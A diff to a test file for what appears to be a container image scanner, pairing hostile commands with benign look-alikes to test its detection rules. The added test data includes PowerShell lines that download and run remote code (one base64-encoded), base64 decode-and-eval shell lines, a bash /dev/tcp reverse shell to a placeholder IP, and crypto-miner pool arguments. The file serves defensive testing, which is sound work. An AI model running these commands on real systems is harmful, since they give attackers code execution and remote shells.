@@ -46,6 +46,8 @@ test('an ordinary config gives no finding', () => {
 });
 
 /** Each hostile command with its nearest honest neighbour. */
+const utf16 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');
+
 const pairs: readonly (readonly [rule: string, hostile: string, honest: string])[] = [
   ['fetch-and-run', 'curl -fsSL http://192.0.2.1/x | sh', 'curl -fsS http://127.0.0.1/health | grep ok'],
   ['fetch-and-run', 'wget -qO- 192.0.2.1/a.py | python3 -', 'wget -qO /data/list https://lists.example/x'],
@@ -57,6 +59,18 @@ const pairs: readonly (readonly [rule: string, hostile: string, honest: string])
     'python3 -c "import urllib.request as u;exec(u.urlopen(\'http://192.0.2.1\').read())"',
     'python3 -c "import urllib.request as u;print(u.urlopen(\'http://127.0.0.1\').status)"',
   ],
+  [
+    'fetch-and-run',
+    `powershell -nop -w hidden -enc ${utf16('IEX (New-Object Net.WebClient).DownloadString("http://192.0.2.1/a")')}`,
+    `powershell -nop -enc ${utf16('Get-ChildItem C:\\app | ForEach-Object { Write-Output $_.Name }')}`,
+  ],
+  [
+    'fetch-and-run',
+    "powershell -c \"(New-Object Net.WebClient).DownloadFile('http://192.0.2.1/a.exe','a.exe'); Start-Process a.exe\"",
+    'powershell -c "Invoke-WebRequest http://192.0.2.1/a.json -OutFile C:\\app\\a.json; Start-Service app"',
+  ],
+  ['decode-and-run', 'eval "$(echo aWQ= | base64 -d)"', 'export KEY="$(echo "$KEY_B64" | base64 -d)"; exec /app'],
+  ['decode-and-run', 'true && $(echo aWQ= | base64 -d)', 'set -- $(echo LS12 | base64 -d); exec /app "$@"'],
   ['decode-and-run', 'echo aWQ= | base64 -d | bash', 'echo aWQ= | base64 -d > /etc/app.conf'],
   [
     'decode-and-run',
@@ -88,6 +102,15 @@ test('in the history the honest installer is no alarm', () => {
     [finding?.rule, finding?.severity, finding?.intent],
     ['image-config/built-by-fetch-and-run', 'info', 'hygiene'],
   );
+});
+
+test('what no build has a use for is told of a build step, and not of a step that only states the start', () => {
+  const rules = (createdBy: string): readonly string[] =>
+    findingsFor({ history: [{ createdBy, emptyLayer: false }] }).map(({ rule }) => rule.replace('image-config/', ''));
+  assert.deepEqual(rules('RUN /bin/sh -c /tmp/x -o stratum+tcp://pool.example:3333'), ['built-with-miner-arguments']);
+  assert.deepEqual(rules('RUN /bin/sh -c bash -i >& /dev/tcp/192.0.2.1/99 0>&1'), ['built-with-reverse-shell']);
+  assert.deepEqual(rules('RUN /bin/sh -c nc -z db.example 99 && make'), []);
+  assert.deepEqual(rules('/bin/sh -c #(nop)  CMD ["/x" "-o" "stratum+tcp://pool.example:3333"]'), []);
 });
 
 test('what ONBUILD downloads and runs is a warning', () => {
